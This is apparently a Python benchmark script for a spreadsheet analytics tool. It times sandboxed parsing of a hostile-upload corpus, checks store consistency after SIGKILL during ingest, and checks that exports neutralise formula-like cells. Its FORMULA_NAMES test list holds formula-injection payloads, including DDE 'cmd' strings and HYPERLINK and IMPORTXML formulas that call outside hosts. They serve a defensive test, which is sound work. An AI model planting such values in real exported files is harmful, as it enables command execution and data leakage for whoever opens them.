"""Benchmark: hostile uploads, crash safety and export safety — the figures of issue 7.

Prints one JSON object (and writes it to ``bench/out/bench_hostile.json``):

``corpus``
    Every file of ``tests/hostile_corpus.py`` through the real upload path
    (``ingest.ingest_file`` on a copy of a store holding the baseline ledger): pass rate against
    the stated verdicts; per file the parse in the sandbox (``sandbox.run``: wall seconds, the
    parser child's peak RSS from ``wait4``, how it ended) and the whole ingest's seconds; the worst
    of each.
``kill9``
    A CLI ingest (``python -m analytics ingest``) of a ``--rows``-row xlsx killed with SIGKILL at
    ``--kills`` moments, one drawn at random in each equal slice of an uninterrupted run; after
    each kill the store is reopened and the upload log checked against the rows (the upload
    fully there and logged, or nothing of it). ``half_written`` counts the trials where they
    disagree (target 0); ``orphans`` counts parser processes that outlived the killed ingest.
``export``
    A table of formula-like customer names written by ``analytics.export``: formula elements in
    the XLSX (target 0) and formula-like cells left without the ``'`` guard in XLSX/CSV (target 0).
``sandbox_overhead``
    The same xlsx read in this process (``readers.read_workbook``) and in the sandbox
    (``sandbox.read_workbook``: fork, memory cap, Arrow IPC back), alternating, medians; next to
    the bare fastexcel typed read of the same file. Plus a small file's round trip in milliseconds.

Run::

    .venv/bin/python -m bench.bench_hostile                    # 50 kills of a 200k-row ingest (~15 min)
    .venv/bin/python -m bench.bench_hostile --kills 10 --skip-overhead
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import shutil
import statistics
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
for entry in (ROOT, ROOT / "tests"):
    if str(entry) not in sys.path:
        sys.path.insert(0, str(entry))

import fastexcel  # noqa: E402
import hostile_corpus as corpus  # noqa: E402
import openpyxl  # noqa: E402
import pandas as pd  # noqa: E402

from analytics import export, ingest, readers, sandbox, store  # noqa: E402
from bench.generate import OUT_DIR, ensure_xlsx  # noqa: E402

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/x","点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "上海长青贸易有限公司",
]


def _baseline(folder: Path) -> Path:
    path = folder / "baseline.duckdb"
    con = store.connect(path)
    try:
        assert ingest.ingest_file(con, corpus.BASELINE).status == "stored"
    finally:
        con.close()
    return path


def bench_corpus(folder: Path, baseline: Path) -> dict[str, Any]:
    """Every corpus file: verdict through ingest, and the sandboxed parse's cost."""
    files = corpus.write(folder / "corpus")
    per_file: list[dict[str, Any]] = []
    for case in corpus.cases():
        data = files[case.name].read_bytes()
        outcome = sandbox.run(data)
        db = folder / "case.duckdb"
        for leftover in (db, Path(f"{db}.wal")):
            leftover.unlink(missing_ok=True)
        shutil.copy(baseline, db)
        con = store.connect(db)
        try:
            before = corpus.table_digest(con)
            started = time.perf_counter()
            result = ingest.ingest_file(con, files[case.name], **case.options)
            seconds = time.perf_counter() - started
            problems = corpus.judge(case, con, result, before)
        finally:
            con.close()
        per_file.append(
            {
                "file": case.name,
                "expected": case.verdict.label + (f" ({case.verdict.code})" if case.verdict.code else ""),
                "got": result.status + (f" ({result.code})" if result.status == "rejected" else ""),
                "passed": not problems,
                "problems": problems,
                "parse_s": round(outcome.seconds, 3),
                "parser_peak_rss_mb": round(outcome.peak_rss_mb, 1),
                "parser_ending": outcome.ending,
                "ingest_s": round(seconds, 3),
            }
        )
    passed = sum(f["passed"] for f in per_file)
    worst_s = max(per_file, key=lambda f: f["ingest_s"])
    worst_rss = max(per_file, key=lambda f: f["parser_peak_rss_mb"])
    return {
        "files": len(per_file),
        "passed": passed,
        "pass_rate": round(passed / len(per_file), 4),
        "worst_ingest_s": {"file": worst_s["file"], "s": worst_s["ingest_s"]},
        "worst_parse_s": max(f["parse_s"] for f in per_file),
        "worst_parser_peak_rss_mb": {"file": worst_rss["file"], "mb": worst_rss["parser_peak_rss_mb"]},
        "per_file": per_file,
    }


def bench_kill9(folder: Path, baseline: Path, rows: int, kills: int, seed: int) -> dict[str, Any]:
    """``kills`` SIGKILLs at spread random moments of a CLI ingest; consistency after each."""
    path = ensure_xlsx(rows)
    # two uninterrupted runs: the expected outcome, and the duration (the faster: load comes and goes)
    references = [corpus.kill_during_ingest(path, baseline, folder / "reference.duckdb", 3600, rows) for _ in "ab"]
    for reference in references:
        assert reference.finished_first and reference.stored and not reference.problems, reference
    duration = min(r.seconds for r in references)
    trials = [
        corpus.kill_during_ingest(path, baseline, folder / "killed.duckdb", delay, rows)
        for delay in corpus.spread_delays(kills, duration, random.Random(seed))
    ]
    return {
        "file": str(path.relative_to(ROOT)),
        "rows": rows,
        "uninterrupted_ingest_s": [round(r.seconds, 2) for r in references],
        "runs": len(trials),
        "killed_before_commit": sum(not t.stored for t in trials),
        "killed_after_commit": sum(t.stored and not t.finished_first for t in trials),
        "finished_before_kill": sum(t.finished_first for t in trials),
        "half_written": sum(bool(t.problems) for t in trials),
        "orphans": sum(len(t.orphans) for t in trials),
        "problems": [{"delay_s": round(t.delay_s, 2), "problems": list(t.problems)} for t in trials if t.problems],
        "target_half_written": 0,
    }


def bench_export() -> dict[str, Any]:
    """Formula-like names through the XLSX/CSV downloads."""
    frame = pd.DataFrame({"customer_name": FORMULA_NAMES, "amount": range(len(FORMULA_NAMES))})
    xlsx = export.to_xlsx_bytes(frame)
    archive = zipfile.ZipFile(io.BytesIO(xlsx))
    formulas = sum(
        archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
        for name in archive.namelist()
        if name.startswith("xl/worksheets/")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    unguarded_xlsx = sum(c.data_type == "f" or c.value.startswith(export.FORMULA_PREFIXES) for c in cells)
    csv_cells = pd.read_csv(io.BytesIO(export.to_csv_bytes(frame)), encoding="utf-8-sig", dtype=str)["customer_name"]
    unguarded_csv = int(csv_cells.str.startswith(export.FORMULA_PREFIXES).sum())
    return {
        "names": len(FORMULA_NAMES),
        "formulas_in_xlsx": formulas,
        "unguarded_cells_xlsx": unguarded_xlsx,
        "unguarded_cells_csv": unguarded_csv,
        "target": 0,
    }


def _timings(run: Callable[[], object], repeat: int) -> list[float]:
    times = []
    for _ in range(repeat):
        started = time.perf_counter()
        run()
        times.append(time.perf_counter() - started)
    return times


def bench_overhead(rows: int, repeat: int) -> dict[str, Any]:
    """In-process read vs sandboxed read of the same xlsx, alternating; bare fastexcel for scale."""
    path = ensure_xlsx(rows)
    data = path.read_bytes()
    readers.read_workbook(data)  # warm both paths (lazy imports)
    sandbox.read_workbook(data)
    in_process, in_sandbox, bare, peaks = [], [], [], []
    for _ in range(repeat):
        in_process += _timings(lambda: readers.read_workbook(data), 1)
        in_sandbox += _timings(lambda: peaks.append(sandbox.run(data).peak_rss_mb), 1)
        bare += _timings(lambda: fastexcel.read_excel(data).load_sheet(0, header_row=0).to_arrow(), 1)
    small = corpus.ledger_xlsx()
    small_in = _timings(lambda: readers.read_workbook(small), 20)
    small_sandbox = _timings(lambda: sandbox.read_workbook(small), 20)
    median = statistics.median
    return {
        "file": str(path.relative_to(ROOT)),
        "rows": rows,
        "runs": repeat,
        "in_process_s": round(median(in_process), 3),
        "sandbox_s": round(median(in_sandbox), 3),
        "overhead_s": round(median(in_sandbox) - median(in_process), 3),
        "overhead_ratio": round(median(in_sandbox) / median(in_process), 3),
        "bare_fastexcel_typed_s": round(median(bare), 3),
        "sandbox_vs_bare_fastexcel": round(median(in_sandbox) / median(bare), 3),
        "sandbox_parser_peak_rss_mb": round(max(peaks), 1),
        "small_file_in_process_ms": round(1000 * median(small_in), 1),
        "small_file_sandbox_ms": round(1000 * median(small_sandbox), 1),
        "all_runs_s": {"in_process": in_process, "sandbox": in_sandbox, "bare_fastexcel": bare},
    }


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--rows", type=int, default=200_000, help="rows of the xlsx killed during ingest")
    parser.add_argument("--kills", type=int, default=50)
    parser.add_argument("--seed", type=int, default=20240601)
    parser.add_argument("--repeat", type=int, default=3, help="alternating runs of the overhead measurement")
    parser.add_argument("--skip-kill", action="store_true")
    parser.add_argument("--skip-overhead", action="store_true")
    parser.add_argument("--out", type=Path, default=OUT_DIR / "bench_hostile.json")
    args = parser.parse_args(argv)
    started = time.perf_counter()
    report: dict[str, Any] = {"load_before": os.getloadavg()}
    sandbox.start()
    with tempfile.TemporaryDirectory(prefix="bench-hostile-") as tmp:
        folder = Path(tmp)
        baseline = _baseline(folder)
        report["corpus"] = bench_corpus(folder, baseline)
        report["export"] = bench_export()
        if not args.skip_overhead:
            report["sandbox_overhead"] = bench_overhead(args.rows, args.repeat)
        if not args.skip_kill:
            report["kill9"] = bench_kill9(folder, baseline, args.rows, args.kills, args.seed)
    limits = sandbox.Limits.from_env()
    report["limits"] = {"memory_mb": limits.memory_mb, "timeout_s": limits.timeout_s}
    report["load_after"] = os.getloadavg()
    report["total_s"] = round(time.perf_counter() - started, 1)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(report, ensure_ascii=False, indent=2), encoding="utf-8")
    print(json.dumps(report, ensure_ascii=False))


if __name__ == "__main__":
    main()
